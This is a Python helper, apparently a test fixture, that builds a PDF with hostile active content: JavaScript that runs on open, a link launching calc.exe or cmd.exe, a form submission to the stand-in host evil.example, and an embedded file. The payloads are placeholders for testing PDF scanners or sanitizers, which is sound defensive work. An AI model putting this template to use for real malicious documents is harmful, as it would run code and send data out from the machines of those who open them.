"""A PDF written byte by byte with what a hostile paper can carry besides its text: JavaScript run
on opening, a link that launches a program, one that submits a form, and an attached file."""

from __future__ import annotations


def write_pdf_with_actions(path, lines: list[str], attachment_text: str):
    stream = "BT /F1 12 Tf 50 780 Td " + " 0 -20 Td ".join(
        "(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj" for line in lines) + " ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(opener) 5 0 R] >> "
        "/EmbeddedFiles << /Names [(appendix.txt) 7 0 R] >> >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        "/Resources << /Font << /F1 6 0 R >> >> /Annots [9 0 R 10 0 R] /AA << /O 5 0 R >> >>",
        f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream",
        "<< /S /JavaScript /JS (app.alert\\('pdf-javascript'\\)) >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< /Type /Filespec /F (appendix.txt) /EF << /F 8 0 R >> >>",
        f"<< /Type /EmbeddedFile /Length {len(attachment_text)} >>\nstream\n{attachment_text}\nendstream",
        "<< /Type /Annot /Subtype /Link /Rect [50 600 300 620] /Border [0 0 0] "
        "/A << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) >> >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [50 560 300 580] /Border [0 0 0] "
        "/A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/submit) >> >> >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += "".join(f"{o:010d} 00000 n \n" for o in offsets).encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    path.write_bytes(bytes(out))
    return path
